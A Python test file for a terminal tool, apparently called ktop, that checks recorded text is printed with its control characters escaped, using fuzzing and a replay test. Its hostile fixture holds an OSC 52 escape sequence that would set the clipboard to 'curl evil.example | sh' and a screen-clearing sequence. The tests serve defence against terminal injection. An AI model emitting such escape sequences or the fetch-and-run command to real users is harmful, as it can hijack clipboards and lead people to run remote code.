"""Text from a recording reaches the terminal with its control characters escaped: a marker
note cannot set the reader's clipboard (OSC 52) nor clear the screen.
"""

from __future__ import annotations

import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import tests.fuzzing  # noqa: F401  (registers and loads the profile)
from ktop.model import events as ev
from ktop.printable import printable
from tests.unit.redact_plant import printed, record

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
"""Sets the clipboard to ``curl evil.example | sh``."""
CLEAR = "\x1b[2J\x1b[H"
HOSTILE = f"look{OSC52}here{CLEAR}\r\x9b31m\x7f"


def _controls(text: str, newlines: bool) -> list[str]:
    """The control characters (Unicode category Cc) of ``text``, by an independent test."""
    return [c for c in text if unicodedata.category(c) == "Cc" and not (newlines and c == "\n")]


@pytest.mark.fuzz
@given(st.text(), st.booleans())
def test_output_holds_no_control_character_and_shows_each_one(text: str, newlines: bool) -> None:
    out = printable(text, newlines=newlines)
    assert _controls(out, newlines) == []
    want = "".join(
        f"\\x{ord(c):02x}" if c in _controls(c, newlines) else c for c in text
    )  # each control shown as its escape, in place
    assert out == want


@pytest.mark.fuzz
@given(st.text(st.characters(blacklist_categories=["Cc"])))
def test_printable_text_is_unchanged(text: str) -> None:
    assert printable(text) == text


def test_replay_info_and_triage_escape_a_hostile_recording(tmp_path: Path) -> None:
    # The issue: a marker note and the context, printed raw by replay --info, set the
    # reader's clipboard and cleared the screen; names and messages reach triage's output.
    path = tmp_path / "hostile.ktrec"
    node = ev.NodeRecord(f"worker{CLEAR}", "r", "z", "k", ev.Readiness.FALSE, 1.0)
    events: list[ev.Event] = [
        ev.NodeUpserted(5.0, node),
        ev.WarningEvent(6.0, "FailedScheduling", "ns", "Pod", "p-1", HOSTILE),
    ]
    record(path, events, notes=[HOSTILE], context=f"ctx{OSC52}", detail=HOSTILE)
    said = printed(path)
    assert _controls(said, newlines=True) == []
    assert "\\x1b]52;c;" in said and "\\x1b[2J" in said  # shown, not hidden
